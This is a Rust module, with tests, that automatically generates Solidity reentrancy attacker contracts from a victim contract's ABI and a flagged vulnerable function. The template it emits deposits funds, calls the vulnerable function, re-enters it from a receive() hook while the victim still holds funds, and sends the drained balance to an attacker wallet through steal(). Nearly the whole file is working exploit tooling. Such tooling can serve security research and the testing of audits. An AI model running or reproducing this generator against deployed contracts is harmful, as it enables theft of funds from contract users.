//! Attacker-contract generation from a victim ABI and a flagged function.
//!
//! For every payable function `P` of the victim, the generator emits a
//! contract whose `attack_step1` deposits through `P`, whose `attack_step2`
//! calls the vulnerable function `V`, whose `receive` hook re-enters `V`
//! while the victim still holds at least `amount`, and whose `steal` sweeps
//! the proceeds to the attacker's wallet.

pub mod abi;
pub mod tokens;

use std::fmt::Write as _;

use rand::Rng;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::seed;
pub use abi::{parse_abi, selector_of, AbiFunction, AbiParam, StateMutability};

pub const INTERFACE_NAME: &str = "Itarget";
pub const TEMPLATE_FUNCTIONS: [&str; 4] = ["attack_step1", "attack_step2", "receive", "steal"];
pub const WEI_PER_ETHER: u128 = 1_000_000_000_000_000_000;

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ExploitError {
    #[error("MalformedAbi at line {line}, column {column}: {message}")]
    MalformedAbi { line: usize, column: usize, message: String },
    #[error("VulnerableFnNotInAbi: {0}")]
    VulnerableFnNotInAbi(String),
    #[error("ambiguous function name {0}; give the full signature")]
    AmbiguousFunction(String),
    #[error("NoPayableFunctions: the victim has no payable entry point")]
    NoPayableFunctions,
    #[error("UnsupportedParamType: {0}")]
    UnsupportedParamType(String),
    #[error("invalid victim name {0:?}")]
    InvalidName(String),
}

/// A dictionary-drawn argument value.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case", tag = "kind", content = "value")]
pub enum ArgValue {
    Uint(u128),
    Int(i128),
    Bool(bool),
    /// The attacker contract's own address.
    SelfAddress,
    Bytes(Vec<u8>),
    Str(String),
    /// Zero-filled `bytesN`.
    ZeroFixedBytes(usize),
}

impl ArgValue {
    pub fn literal(&self) -> String {
        match self {
            ArgValue::Uint(v) => v.to_string(),
            ArgValue::Int(v) => v.to_string(),
            ArgValue::Bool(b) => b.to_string(),
            ArgValue::SelfAddress => "address(this)".into(),
            ArgValue::Bytes(b) => format!("hex\"{}\"", hex::encode(b)),
            ArgValue::Str(s) => format!("\"{s}\""),
            ArgValue::ZeroFixedBytes(n) => format!("bytes{n}(0)"),
        }
    }

    /// Whether this value is a legal literal for the Solidity type `ty`.
    pub fn fits(&self, ty: &str) -> bool {
        match (self, ElementaryType::parse(ty)) {
            (ArgValue::Uint(v), Some(ElementaryType::Uint(bits))) => bits >= 128 || *v < (1u128 << bits),
            (ArgValue::Int(v), Some(ElementaryType::Int(bits))) => {
                bits >= 128 || (*v >= -(1i128 << (bits - 1)) && *v < (1i128 << (bits - 1)))
            }
            (ArgValue::Bool(_), Some(ElementaryType::Bool)) => true,
            (ArgValue::SelfAddress, Some(ElementaryType::Address)) => true,
            (ArgValue::Bytes(_), Some(ElementaryType::Bytes)) => true,
            (ArgValue::Str(_), Some(ElementaryType::String)) => true,
            (ArgValue::ZeroFixedBytes(n), Some(ElementaryType::FixedBytes(m))) => *n == m,
            _ => false,
        }
    }
}

/// The emitter's type table: the elementary types the dictionary covers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ElementaryType {
    Uint(u32),
    Int(u32),
    Bool,
    Address,
    Bytes,
    String,
    FixedBytes(usize),
}

impl ElementaryType {
    pub fn parse(ty: &str) -> Option<ElementaryType> {
        let bits = |rest: &str| -> Option<u32> {
            if rest.is_empty() {
                return Some(256);
            }
            let b: u32 = rest.parse().ok()?;
            (b % 8 == 0 && (8..=256).contains(&b)).then_some(b)
        };
        match ty {
            "bool" => Some(ElementaryType::Bool),
            "address" | "address payable" => Some(ElementaryType::Address),
            "bytes" => Some(ElementaryType::Bytes),
            "string" => Some(ElementaryType::String),
            _ => {
                if let Some(rest) = ty.strip_prefix("uint") {
                    bits(rest).map(ElementaryType::Uint)
                } else if let Some(rest) = ty.strip_prefix("int") {
                    bits(rest).map(ElementaryType::Int)
                } else if let Some(rest) = ty.strip_prefix("bytes") {
                    let n: usize = rest.parse().ok()?;
                    (1..=32).contains(&n).then_some(ElementaryType::FixedBytes(n))
                } else {
                    None
                }
            }
        }
    }

    /// Candidate values, already filtered to those that fit.
    pub fn dictionary(self) -> Vec<ArgValue> {
        let candidates = match self {
            ElementaryType::Uint(_) => vec![ArgValue::Uint(0), ArgValue::Uint(1), ArgValue::Uint(WEI_PER_ETHER)],
            ElementaryType::Int(_) => {
                vec![ArgValue::Int(0), ArgValue::Int(1), ArgValue::Int(WEI_PER_ETHER as i128)]
            }
            ElementaryType::Bool => vec![ArgValue::Bool(true), ArgValue::Bool(false)],
            ElementaryType::Address => vec![ArgValue::SelfAddress],
            ElementaryType::Bytes => vec![ArgValue::Bytes(Vec::new()), ArgValue::Bytes(vec![0xde, 0xad, 0xbe, 0xef])],
            ElementaryType::String => vec![ArgValue::Str(String::new()), ArgValue::Str("x".into())],
            ElementaryType::FixedBytes(n) => vec![ArgValue::ZeroFixedBytes(n)],
        };
        let ty = self.name();
        candidates.into_iter().filter(|v| v.fits(&ty)).collect()
    }

    pub fn name(self) -> String {
        match self {
            ElementaryType::Uint(b) => format!("uint{b}"),
            ElementaryType::Int(b) => format!("int{b}"),
            ElementaryType::Bool => "bool".into(),
            ElementaryType::Address => "address".into(),
            ElementaryType::Bytes => "bytes".into(),
            ElementaryType::String => "string".into(),
            ElementaryType::FixedBytes(n) => format!("bytes{n}"),
        }
    }
}

/// An argument slot: a drawn value, or the type the dictionary cannot fill.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Argument {
    Value(ArgValue),
    Unsupported(String),
}

fn draw_args(params: &[AbiParam], rng: &mut impl Rng) -> Vec<Argument> {
    params
        .iter()
        .map(|p| match ElementaryType::parse(&p.ty) {
            Some(t) => {
                let dict = t.dictionary();
                Argument::Value(dict[rng.random_range(0..dict.len())].clone())
            }
            None => Argument::Unsupported(p.canonical_type()),
        })
        .collect()
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackPlan {
    /// Contract name of the victim, e.g. `TheBank`.
    pub victim_name: String,
    pub payable_fn: AbiFunction,
    pub vulnerable_fn: AbiFunction,
    pub payable_args: Vec<Argument>,
    pub vulnerable_args: Vec<Argument>,
    /// Re-entry threshold in wei.
    pub amount_wei: u128,
}

impl AttackPlan {
    /// `{victim}_{payable}_{vulnerable}.sol`.
    pub fn file_name(&self) -> String {
        format!("{}_{}_{}.sol", self.victim_name, self.payable_fn.name, self.vulnerable_fn.name)
    }
}

fn find_vulnerable<'a>(abi: &'a [AbiFunction], wanted: &str) -> Result<&'a AbiFunction, ExploitError> {
    let wanted = wanted.trim();
    if wanted.contains('(') {
        let normalized = wanted.replace(' ', "");
        return abi
            .iter()
            .find(|f| f.signature() == normalized)
            .ok_or_else(|| ExploitError::VulnerableFnNotInAbi(wanted.to_string()));
    }
    let matches: Vec<&AbiFunction> = abi.iter().filter(|f| f.name == wanted).collect();
    match matches.len() {
        0 => Err(ExploitError::VulnerableFnNotInAbi(wanted.to_string())),
        1 => Ok(matches[0]),
        _ => Err(ExploitError::AmbiguousFunction(wanted.to_string())),
    }
}

fn valid_identifier(name: &str) -> bool {
    let mut chars = name.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// One plan per payable function, in ABI order. Argument values are drawn
/// from the dictionary with a stream keyed by `(seed, plan index)`.
pub fn plan_attacks(
    abi: &[AbiFunction],
    victim_name: &str,
    vulnerable: &str,
    amount_wei: u128,
    seed: u64,
) -> Result<Vec<AttackPlan>, ExploitError> {
    if !valid_identifier(victim_name) {
        return Err(ExploitError::InvalidName(victim_name.to_string()));
    }
    let v = find_vulnerable(abi, vulnerable)?;
    let payables: Vec<&AbiFunction> = abi.iter().filter(|f| f.is_payable()).collect();
    if payables.is_empty() {
        return Err(ExploitError::NoPayableFunctions);
    }
    Ok(payables
        .into_iter()
        .enumerate()
        .map(|(i, p)| {
            let mut rng = seed::rng(seed, &[seed::DOMAIN_ARGS, i as u64]);
            let payable_args = draw_args(&p.inputs, &mut rng);
            let vulnerable_args = draw_args(&v.inputs, &mut rng);
            AttackPlan {
                victim_name: victim_name.to_string(),
                payable_fn: p.clone(),
                vulnerable_fn: v.clone(),
                payable_args,
                vulnerable_args,
                amount_wei,
            }
        })
        .collect())
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AttackerSource {
    pub file_name: String,
    pub source: String,
    pub interface_name: String,
    pub functions: Vec<String>,
    pub amount_wei: u128,
}

fn lower_first(name: &str) -> String {
    let mut chars = name.chars();
    match chars.next() {
        Some(c) => c.to_ascii_lowercase().to_string() + chars.as_str(),
        None => String::new(),
    }
}

fn interface_line(f: &AbiFunction) -> String {
    let params: Vec<String> = f.inputs.iter().map(|p| p.ty.clone()).collect();
    let mutability = match f.state_mutability {
        StateMutability::Payable => " payable",
        StateMutability::Nonpayable => "",
        StateMutability::View => " view",
        StateMutability::Pure => " pure",
    };
    format!("function {}({}) external{mutability};", f.name, params.join(", "))
}

fn render_args(args: &[Argument]) -> Result<String, ExploitError> {
    let mut out = Vec::with_capacity(args.len());
    for a in args {
        match a {
            Argument::Value(v) => out.push(v.literal()),
            Argument::Unsupported(ty) => return Err(ExploitError::UnsupportedParamType(ty.clone())),
        }
    }
    Ok(out.join(", "))
}

/// `N ether` when whole, else `N wei`.
pub fn amount_literal(wei: u128) -> String {
    if wei % WEI_PER_ETHER == 0 {
        format!("{} ether", wei / WEI_PER_ETHER)
    } else {
        format!("{wei} wei")
    }
}

/// Renders the attacker contract for one plan.
pub fn generate(plan: &AttackPlan) -> Result<AttackerSource, ExploitError> {
    for (params, args) in [(&plan.payable_fn.inputs, &plan.payable_args), (&plan.vulnerable_fn.inputs, &plan.vulnerable_args)] {
        for (p, a) in params.iter().zip(args) {
            if let Argument::Value(v) = a {
                if !v.fits(&p.ty) {
                    return Err(ExploitError::UnsupportedParamType(p.ty.clone()));
                }
            }
        }
    }
    let pay_args = render_args(&plan.payable_args)?;
    let vuln_args = render_args(&plan.vulnerable_args)?;
    let target = lower_first(&plan.victim_name);
    let p = &plan.payable_fn;
    let v = &plan.vulnerable_fn;

    let mut s = String::new();
    let _ = writeln!(s, "pragma solidity >=0.1.10 <0.9.0;");
    let _ = writeln!(s, "interface {INTERFACE_NAME}{{");
    if p.signature() == v.signature() {
        let _ = writeln!(s, "    {} }}", interface_line(p));
    } else {
        let _ = writeln!(s, "    {}", interface_line(p));
        let _ = writeln!(s, "    {} }}", interface_line(v));
    }
    let _ = writeln!(s, "contract TheAttacker {{");
    let _ = writeln!(s, "    {INTERFACE_NAME} public {target};");
    let _ = writeln!(s, "    address payable public attacker;");
    let _ = writeln!(s, "    uint256 public amount = {};", amount_literal(plan.amount_wei));
    let _ = writeln!(s, "    constructor(address _{target}Address,");
    let _ = writeln!(s, "        address payable _attackerAddr) {{");
    let _ = writeln!(s, "        {target} = {INTERFACE_NAME}(_{target}Address);");
    let _ = writeln!(s, "        attacker = _attackerAddr; }}");
    let _ = writeln!(s, "    function attack_step1() external payable {{");
    let _ = writeln!(s, "        {target}.{}{{value: msg.value}}({pay_args}); }}", p.name);
    let _ = writeln!(s, "    function attack_step2() external {{");
    let _ = writeln!(s, "        {target}.{}({vuln_args}); }}", v.name);
    let _ = writeln!(s, "    receive() external payable {{");
    let _ = writeln!(s, "        if (address({target}).balance >= amount) {{");
    let _ = writeln!(s, "            {target}.{}({vuln_args}); }} }}", v.name);
    let _ = writeln!(s, "    function steal() public payable{{");
    let _ = writeln!(s, "        attacker.transfer(address(this).balance); }} }}");

    Ok(AttackerSource {
        file_name: plan.file_name(),
        source: s,
        interface_name: INTERFACE_NAME.to_string(),
        functions: TEMPLATE_FUNCTIONS.iter().map(|f| f.to_string()).collect(),
        amount_wei: plan.amount_wei,
    })
}

/// Manifest entry written next to generated sources.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ManifestEntry<'a> {
    pub file: String,
    pub payable_signature: String,
    pub vulnerable_signature: String,
    pub plan: &'a AttackPlan,
}

pub fn manifest(plans: &[AttackPlan]) -> Vec<ManifestEntry<'_>> {
    plans
        .iter()
        .map(|p| ManifestEntry {
            file: p.file_name(),
            payable_signature: p.payable_fn.signature(),
            vulnerable_signature: p.vulnerable_fn.signature(),
            plan: p,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn f(name: &str, inputs: &[&str], m: StateMutability) -> AbiFunction {
        AbiFunction {
            name: name.into(),
            inputs: inputs.iter().enumerate().map(|(i, t)| AbiParam::new(&format!("a{i}"), t)).collect(),
            outputs: vec![],
            state_mutability: m,
        }
    }

    #[test]
    fn dictionary_values_fit_their_types() {
        for ty in ["uint8", "uint64", "uint256", "int8", "int128", "int256", "bool", "address", "bytes", "string", "bytes4", "bytes32"] {
            let t = ElementaryType::parse(ty).unwrap();
            let dict = t.dictionary();
            assert!(!dict.is_empty(), "{ty}");
            assert!(dict.iter().all(|v| v.fits(ty)), "{ty}");
        }
        assert_eq!(ElementaryType::parse("uint8").unwrap().dictionary(), [ArgValue::Uint(0), ArgValue::Uint(1)]);
        for bad in ["uint7", "uint264", "bytes0", "bytes33", "tuple", "uint256[]", "function"] {
            assert!(ElementaryType::parse(bad).is_none(), "{bad}");
        }
    }

    #[test]
    fn plans_per_payable_function() {
        use StateMutability::*;
        let abi = vec![f("deposit", &[], Payable), f("top", &["uint256"], Payable), f("withdraw", &["uint256"], Nonpayable)];
        let plans = plan_attacks(&abi, "Bank", "withdraw", WEI_PER_ETHER, 1).unwrap();
        assert_eq!(plans.len(), 2);
        assert_eq!(plans[1].file_name(), "Bank_top_withdraw.sol");
        assert_eq!(plan_attacks(&abi[..1], "Bank", "withdraw", 1, 1), Err(ExploitError::VulnerableFnNotInAbi("withdraw".into())));
        assert_eq!(plan_attacks(&abi[2..], "Bank", "withdraw", 1, 1), Err(ExploitError::NoPayableFunctions));
        assert!(plan_attacks(&abi, "Bank", "withdraw(uint256)", 1, 1).is_ok());
        assert!(plan_attacks(&abi, "9Bank", "withdraw", 1, 1).is_err());
    }

    #[test]
    fn overloaded_names_need_a_signature() {
        use StateMutability::*;
        let abi = vec![f("deposit", &[], Payable), f("w", &[], Nonpayable), f("w", &["uint256"], Nonpayable)];
        assert_eq!(plan_attacks(&abi, "B", "w", 1, 0), Err(ExploitError::AmbiguousFunction("w".into())));
        let plans = plan_attacks(&abi, "B", "w(uint256)", 1, 0).unwrap();
        assert_eq!(plans[0].vulnerable_fn.inputs.len(), 1);
    }

    #[test]
    fn uint_argument_is_rendered_in_both_calls() {
        use StateMutability::*;
        let abi = vec![f("deposit", &[], Payable), f("withdraw", &["uint256"], Nonpayable)];
        let plan = &plan_attacks(&abi, "Bank", "withdraw", WEI_PER_ETHER, 3).unwrap()[0];
        let Argument::Value(ArgValue::Uint(v)) = plan.vulnerable_args[0] else { panic!() };
        let src = generate(plan).unwrap().source;
        assert!(src.contains("function withdraw(uint256) external;"));
        assert_eq!(src.matches(&format!("bank.withdraw({v});")).count(), 2);
    }

    #[test]
    fn unsupported_parameter_types_fail_generation() {
        use StateMutability::*;
        let mut pay = f("deposit", &[], Payable);
        pay.inputs.push(AbiParam { name: "t".into(), ty: "tuple".into(), components: vec![AbiParam::new("x", "uint256")] });
        let abi = vec![pay, f("withdraw", &[], Nonpayable)];
        let plan = &plan_attacks(&abi, "Bank", "withdraw", 1, 0).unwrap()[0];
        assert_eq!(generate(plan), Err(ExploitError::UnsupportedParamType("(uint256)".into())));
    }

    #[test]
    fn mismatched_literal_is_rejected() {
        use StateMutability::*;
        let abi = vec![f("deposit", &["uint8"], Payable), f("withdraw", &[], Nonpayable)];
        let mut plan = plan_attacks(&abi, "Bank", "withdraw", 1, 0).unwrap().remove(0);
        plan.payable_args[0] = Argument::Value(ArgValue::Uint(WEI_PER_ETHER));
        assert_eq!(generate(&plan), Err(ExploitError::UnsupportedParamType("uint8".into())));
    }

    #[test]
    fn generation_is_seeded() {
        use StateMutability::*;
        let abi = vec![
            f("deposit", &["uint256", "bool", "bytes"], Payable),
            f("withdraw", &["uint256", "address", "string"], Nonpayable),
        ];
        let a = generate(&plan_attacks(&abi, "Bank", "withdraw", 1, 11).unwrap()[0]).unwrap();
        let b = generate(&plan_attacks(&abi, "Bank", "withdraw", 1, 11).unwrap()[0]).unwrap();
        assert_eq!(a, b);
        let differs = (0..20).any(|s| generate(&plan_attacks(&abi, "Bank", "withdraw", 1, s).unwrap()[0]).unwrap() != a);
        assert!(differs);
    }

    #[test]
    fn amount_literals() {
        assert_eq!(amount_literal(WEI_PER_ETHER), "1 ether");
        assert_eq!(amount_literal(5 * WEI_PER_ETHER), "5 ether");
        assert_eq!(amount_literal(123), "123 wei");
    }
}
